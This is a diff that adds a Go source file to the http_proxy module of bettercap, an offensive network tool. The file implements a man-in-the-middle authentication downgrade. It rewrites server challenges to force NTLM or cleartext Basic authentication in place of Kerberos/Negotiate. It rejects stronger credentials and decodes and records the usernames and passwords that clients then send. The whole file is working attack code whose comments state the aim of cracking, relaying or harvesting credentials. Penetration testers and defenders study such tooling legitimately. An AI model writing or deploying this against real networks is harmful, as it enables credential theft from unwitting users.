@@ -0,0 +1,171 @@
+package http_proxy
+
+import (
+	"bytes"
+	"encoding/base64"
+	"fmt"
+	"net/http"
+	"strings"
+
+	"github.com/bettercap/bettercap/session"
+
+	"github.com/elazarl/goproxy"
+
+	"github.com/evilsocket/islazy/tui"
+)
+
+const (
+	// keep NTLM only, so that the hashes can be cracked or relayed
+	AuthDowngradeNTLM = "ntlm"
+	// ask for Basic authentication, so that credentials are sent in clear text
+	AuthDowngradeBasic = "basic"
+)
+
+var (
+	authHeaders = []string{"Www-Authenticate", "Proxy-Authenticate"}
+	ntlmSSP     = []byte("NTLMSSP\x00")
+)
+
+func authScheme(value string) string {
+	return strings.ToLower(strings.SplitN(strings.TrimSpace(value), " ", 2)[0])
+}
+
+// downgradeChallenges returns the challenges to send instead of values,
+// and true if any of them changed.
+func (p *HTTPProxy) downgradeChallenges(host string, values []string) ([]string, bool) {
+	if p.AuthDowngrade == AuthDowngradeBasic {
+		for _, value := range values {
+			if authScheme(value) != "basic" {
+				return []string{fmt.Sprintf(`Basic realm="%s"`, host)}, true
+			}
+		}
+		return values, false
+	}
+
+	downgraded := make([]string, 0, len(values))
+	hasNTLM := false
+	changed := false
+	for _, value := range values {
+		switch authScheme(value) {
+		case "negotiate", "kerberos":
+			changed = true
+		case "ntlm":
+			hasNTLM = true
+			downgraded = append(downgraded, value)
+		default:
+			downgraded = append(downgraded, value)
+		}
+	}
+
+	if changed && !hasNTLM {
+		downgraded = append([]string{"NTLM"}, downgraded...)
+	}
+	return downgraded, changed
+}
+
+// downgradeAuth rewrites the authentication challenges of a response.
+func (p *HTTPProxy) downgradeAuth(res *http.Response) {
+	if p.AuthDowngrade == "" {
+		return
+	}
+
+	for _, name := range authHeaders {
+		values := res.Header[name]
+		if len(values) == 0 {
+			continue
+		}
+
+		if downgraded, changed := p.downgradeChallenges(res.Request.Host, values); changed {
+			p.Info("downgrading %s authentication of %s to %s for %s",
+				strings.Join(values, ", "),
+				tui.Yellow(res.Request.Host),
+				tui.Red(strings.Join(downgraded, ", ")),
+				tui.Bold(strings.Split(res.Request.RemoteAddr, ":")[0]))
+			res.Header[name] = downgraded
+		}
+	}
+}
+
+// isDowngraded returns true if the credentials of a request are of the kind
+// we're downgrading to, Negotiate tokens are accepted if they wrap NTLM.
+func (p *HTTPProxy) isDowngraded(value string) bool {
+	scheme := authScheme(value)
+	if p.AuthDowngrade == AuthDowngradeBasic {
+		return scheme == "basic"
+	} else if scheme != "negotiate" && scheme != "kerberos" {
+		return true
+	}
+
+	parts := strings.SplitN(strings.TrimSpace(value), " ", 2)
+	if len(parts) < 2 {
+		return false
+	}
+	token, err := base64.StdEncoding.DecodeString(strings.TrimSpace(parts[1]))
+	return err == nil && bytes.Contains(token, ntlmSSP)
+}
+
+// harvestAuth stores the Basic credentials the client is authenticating
+// with, to the upstream server or to a proxy.
+func (p *HTTPProxy) harvestAuth(req *http.Request) {
+	proto := "http"
+	if p.isTLS {
+		proto = "https"
+	}
+
+	for _, header := range []string{"Authorization", "Proxy-Authorization"} {
+		value := req.Header.Get(header)
+		fields := strings.Fields(value)
+		if authScheme(value) != "basic" || len(fields) != 2 {
+			continue
+		}
+
+		raw, err := base64.StdEncoding.DecodeString(fields[1])
+		if err != nil {
+			continue
+		}
+
+		if parts := strings.SplitN(string(raw), ":", 2); len(parts) == 2 {
+			p.Sess.AddCredential(session.Credential{
+				Protocol: proto,
+				Source:   p.Name,
+				Client:   strings.Split(req.RemoteAddr, ":")[0],
+				Server:   req.Host,
+				Username: parts[0],
+				Secret:   parts[1],
+			})
+		}
+	}
+}
+
+// rejectAuth answers requests authenticating with a scheme we don't want,
+// like Kerberos tickets for a host the client already knows, with a new
+// downgraded challenge.
+func (p *HTTPProxy) rejectAuth(req *http.Request) *http.Response {
+	if p.AuthDowngrade == "" {
+		return nil
+	}
+
+	header, status, challenge := "Authorization", http.StatusUnauthorized, "Www-Authenticate"
+	value := req.Header.Get(header)
+	if value == "" {
+		header, status, challenge = "Proxy-Authorization", http.StatusProxyAuthRequired, "Proxy-Authenticate"
+		if value = req.Header.Get(header); value == "" {
+			return nil
+		}
+	}
+
+	if p.isDowngraded(value) {
+		return nil
+	}
+
+	downgraded, _ := p.downgradeChallenges(req.Host, []string{value})
+	p.Info("rejecting %s credentials for %s from %s, asking for %s",
+		authScheme(value),
+		tui.Yellow(req.Host),
+		tui.Bold(strings.Split(req.RemoteAddr, ":")[0]),
+		tui.Red(strings.Join(downgraded, ", ")))
+
+	res := goproxy.NewResponse(req, "text/plain", status, "")
+	res.Header[challenge] = downgraded
+	return res
+}